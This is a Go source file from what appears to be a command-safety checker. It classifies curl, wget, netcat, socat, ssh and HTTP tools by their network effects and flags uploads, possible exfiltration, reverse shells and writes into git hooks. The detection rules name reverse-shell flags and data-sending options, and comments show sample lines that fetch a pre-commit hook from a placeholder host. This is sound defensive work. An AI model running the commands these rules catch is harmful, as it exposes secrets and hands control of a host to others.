package safety

import (
	"path"
	"slices"
	"strings"
)

// network handles fetches, uploads and remote shells.
func network(c *call) bool {
	b := c.base
	switch b {
	case "curl":
		flags, _ := opts(c.args, "-o --output --output-dir -d --data --data-raw --data-binary --data-urlencode -F --form -T --upload-file -X --request -H --header -u --user -A --user-agent -e --referer -b --cookie -c --cookie-jar -K --config -x --proxy -m --max-time --connect-timeout -w --write-out --retry -r --range -E --cert --key --cacert -D --dump-header --json --url", false)
		if f, ok := hasPrefixFlag(flags, "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "-F", "--form", "-T", "--upload-file", "--json", "-K", "--config"); ok {
			// Data written in the line is a request the line shows;
			// uploads and configuration files send what it does not
			// (the content of files named with @ is judged below).
			e := EffectNetwork
			if name, _, _ := strings.Cut(f, "="); name == "-T" || name == "--upload-file" || name == "-K" || name == "--config" || strings.HasPrefix(f, "-T") || strings.HasPrefix(f, "-K") {
				e = EffectSendsData
			}
			c.concern(e, SeverityHigh, false, "curl "+f+" sends data to a server (possible exfiltration)")
		} else if m := valueOf(c.args, "-X", "--request"); m != "GET" && m != "HEAD" && (m != "" || has(flags, "X", "--request")) {
			// PUT, PATCH, DELETE … change a resource by name; without
			// its value (a rule's words, "curl -X") the method is any.
			e := EffectChangesRemote
			if m == "POST" {
				e = EffectNetwork // what --json and -d send, unasked
			}
			c.concern(e, SeverityHigh, false, strings.TrimSpace("curl -X "+m)+" sends a request that changes data")
		} else {
			c.effect(EffectNetwork, false, "curl fetches from the network")
		}
		// -d @file, -F name=@file and -T file send a local file.
		for _, v := range valuesOf(c.args, "-d", "--data", "--data-binary", "--data-urlencode", "--json") {
			if f, ok := strings.CutPrefix(v.s, "@"); ok && f != "" && f != "-" {
				c.path(word{s: f}, OpRead)
			}
		}
		for _, v := range valuesOf(c.args, "-F", "--form") {
			if _, f, ok := strings.Cut(v.s, "=@"); ok && f != "" {
				f, _, _ = strings.Cut(f, ";")
				c.path(word{s: f}, OpRead)
			}
		}
		for _, v := range valuesOf(c.args, "-T", "--upload-file") {
			c.path(v, OpRead)
		}
		curlFileForms(c)
		for _, v := range valuesOf(c.args, "-o", "--output", "-c", "--cookie-jar", "-D", "--dump-header") {
			if v.s != "-" {
				c.path(v, OpWrite)
			}
		}
		for _, v := range valuesOf(c.args, "-o", "--output") {
			c.a.downloaded(v)
		}
		// --output-dir D puts every output under D: curl --output-dir
		// .git/hooks -O http://x/pre-commit writes a hook.
		outDirs := valuesOf(c.args, "--output-dir")
		for _, d := range outDirs {
			c.path(d, OpWrite)
			for _, v := range valuesOf(c.args, "-o", "--output") {
				c.path(under(d, v), OpWrite)
			}
		}
		if has(flags, "O", "--remote-name", "--remote-name-all") {
			c.concern(EffectWrites, SeverityMedium, false, "curl -O writes a downloaded file")
			// -O names the file after the URL: curl -O http://x/.bashrc
			// writes .bashrc.
			for _, u := range urlOperands(c.args) {
				c.path(u, OpWrite)
				c.a.downloaded(u)
				for _, d := range outDirs {
					c.path(under(d, u), OpWrite)
				}
			}
		}
		for _, v := range valuesOf(c.args, "-K", "--config") {
			c.path(v, OpRead)
			c.concern(EffectSendsData, SeverityHigh, true, "curl "+v.s+" reads options from a file, which can name any output or upload")
		}
	case "wget":
		flags, _ := opts(c.args, "-O --output-document -o --output-file -P --directory-prefix --post-data --post-file --body-data --body-file --method -U --user-agent --header -e --execute", false)
		if f, ok := hasPrefixFlag(flags, "--post-data", "--post-file", "--body-data", "--body-file", "--method", "-e", "--execute"); ok {
			e := EffectNetwork // --post-data and --body-data show what they send
			if strings.HasPrefix(f, "--post-file") || strings.HasPrefix(f, "--body-file") {
				e = EffectSendsData
			} else if f == "-e" || strings.HasPrefix(f, "--execute") {
				e = EffectExecutes
			}
			c.concern(e, SeverityHigh, false, "wget "+f+" sends data or runs commands (possible exfiltration)")
		} else {
			c.effect(EffectNetwork, false, "wget downloads from the network")
		}
		outs := valuesOf(c.args, "-O", "--output-document")
		for _, v := range outs {
			if v.s != "-" {
				c.path(v, OpWrite)
				c.a.downloaded(v)
			}
		}
		if len(outs) == 0 {
			// wget saves under the URL's file name, in the -P directory:
			// wget -P .git/hooks http://x/pre-commit writes a hook.
			prefixes := valuesOf(c.args, "-P", "--directory-prefix")
			for _, p := range prefixes {
				c.path(p, OpWrite)
			}
			for _, u := range urlOperands(c.args) {
				if len(prefixes) == 0 {
					c.path(u, OpWrite)
					c.a.downloaded(u)
				}
				for _, p := range prefixes {
					c.path(under(p, u), OpWrite)
					c.a.downloaded(under(p, u))
				}
			}
		}
		for _, v := range valuesOf(c.args, "--post-file", "--body-file", "-i", "--input-file", "--config") {
			c.path(v, OpRead)
		}
	case "nc", "ncat", "netcat", "socat", "telnet", "ssh", "mosh", "ftp", "tftp", "sshpass", "rsh", "rlogin":
		for _, w := range c.args {
			if w.s == "-e" || w.s == "-c" || strings.HasPrefix(w.s, "EXEC:") || strings.HasPrefix(w.s, "SYSTEM:") || strings.Contains(w.s, "exec:") {
				if b != "ssh" {
					c.concern(EffectExecutes, SeverityCritical, true, b+" "+w.s+" connects a shell to the network (reverse shell)")
					return true
				}
			}
		}
		if b == "ssh" {
			sshHatches(c)
		}
		c.concern(EffectNetwork, SeverityHigh, false, b+" opens a connection to another host (possible exfiltration or remote execution)")
	case "fetch", "aria2c", "http", "https", "xh", "httpie", "lynx", "links", "w3m", "ping", "dig", "nslookup", "host", "traceroute", "whois":
		c.concern(EffectNetwork, SeverityMedium, false, b+" uses the network")
		if b == "http" || b == "https" || b == "xh" || b == "httpie" {
			// HTTPie items: @file, field@file, field=@file, field:=@file
			// send a local file.
			for _, w := range c.args {
				if i := strings.IndexByte(w.s, '@'); i >= 0 && !w.dynamic && !strings.Contains(w.s, "://") && i+1 < len(w.s) {
					c.path(word{s: w.s[i+1:]}, OpRead)
					c.concern(EffectSendsData, SeverityHigh, false, b+" "+w.s+" sends a local file (possible exfiltration)")
				}
			}
		}
	default:
		return false
	}
	return true
}

// under names file f inside directory d, known only at run time when
// either is.
func under(d, f word) word {
	return word{s: path.Join(d.s, f.s), dynamic: d.dynamic || f.dynamic}
}

func urlOperands(args []word) []word {
	var out []word
	for _, w := range args {
		if w.dynamic {
			continue
		}
		_, rest, ok := strings.Cut(w.s, "://")
		if !ok {
			continue
		}
		rest, _, _ = strings.Cut(rest, "?")
		rest, _, _ = strings.Cut(rest, "#")
		name := "index.html"
		if i := strings.IndexByte(rest, '/'); i >= 0 {
			if seg := rest[strings.LastIndexByte(rest, '/')+1:]; seg != "" {
				name = seg
			}
		}
		out = append(out, word{s: name})
	}
	return out
}

// curlFileForms records the files and environment variables curl reads
// through its "@" forms (curl(1)): -H @file reads headers from a file,
// --data-urlencode and --url-query take name@file, and --variable (curl
// 8.3) sets a variable from name@file or imports the environment
// variable %NAME, which any --expand-* option then sends.
func curlFileForms(c *call) {
	for _, v := range valuesOf(c.args, "-H", "--header", "--proxy-header") {
		if f, ok := strings.CutPrefix(v.s, "@"); ok && f != "" && f != "-" {
			c.path(word{s: f}, OpRead)
			c.concern(EffectSendsData, SeverityHigh, false, "curl -H "+v.s+" sends headers read from a file")
		}
	}
	// -d @file, --json @file and -F name=@file or name=<file send a
	// file's content (their reads are recorded where the paths are).
	for _, v := range valuesOf(c.args, "-d", "--data", "--data-binary", "--data-ascii", "--json") {
		if f, ok := strings.CutPrefix(v.s, "@"); ok && f != "" && f != "-" {
			c.concern(EffectSendsData, SeverityHigh, false, "curl sends the content of "+f)
		}
	}
	for _, v := range valuesOf(c.args, "-F", "--form") {
		if _, f, ok := strings.Cut(v.s, "="); ok && len(f) > 1 && (f[0] == '@' || f[0] == '<') {
			c.concern(EffectSendsData, SeverityHigh, false, "curl sends the content of "+f[1:])
		}
	}
	for _, v := range valuesOf(c.args, "--data-urlencode", "--url-query") {
		if name, f, ok := strings.Cut(v.s, "@"); ok && !strings.Contains(name, "=") && f != "" && f != "-" {
			c.path(word{s: f}, OpRead)
			c.concern(EffectSendsData, SeverityHigh, false, "curl sends the content of "+f)
		}
	}
	for _, v := range valuesOf(c.args, "--variable", "--expand-variable") {
		name := v.s
		if i := strings.IndexAny(name, "=@"); i >= 0 {
			if name[i] == '@' && name[i+1:] != "" && name[i+1:] != "-" {
				c.path(word{s: name[i+1:]}, OpRead)
				c.concern(EffectSendsData, SeverityHigh, false, "curl --variable reads "+name[i+1:]+" for --expand-* options to send")
			}
			name = name[:i]
		}
		if env, ok := strings.CutPrefix(name, "%"); ok {
			c.concern(EffectSendsData, SeverityHigh, false, "curl --variable imports the environment variable "+env+", which --expand-* options send")
			c.unvetted(v.s, "imports an environment variable, which holds the host's secrets")
		}
	}
}

// sshCommandOptions are the ssh_config(5) keywords whose value is a
// command ssh runs on the local machine.
var sshCommandOptions = []string{"proxycommand", "localcommand", "knownhostscommand", "permitlocalcommand"}

// sshHatches judges the options of ssh, scp and sftp that run a local
// program: -o with a keyword of sshCommandOptions (ssh_config(5)), and
// -F, a configuration file, which can name such commands (or Match exec)
// for any host.
func sshHatches(c *call) {
	for i, w := range c.args {
		if w.s == "--" {
			return
		}
		var v string
		switch {
		case w.s == "-o" && i+1 < len(c.args):
			v = c.args[i+1].s
		case strings.HasPrefix(w.s, "-o") && len(w.s) > 2:
			v = w.s[2:]
		case w.s == "-F" || strings.HasPrefix(w.s, "-F") && len(w.s) > 2:
			c.concern(EffectExecutes, SeverityHigh, false, c.base+" -F reads a configuration file, which can name commands to run")
			continue
		default:
			continue
		}
		key, _, _ := strings.Cut(strings.TrimSpace(v), "=")
		key, _, _ = strings.Cut(key, " ")
		key, _, _ = strings.Cut(key, "\t")
		if slices.Contains(sshCommandOptions, strings.ToLower(key)) {
			c.concern(EffectExecutes, SeverityHigh, false, c.base+" -o "+short(v)+" runs a local command")
		}
	}
}
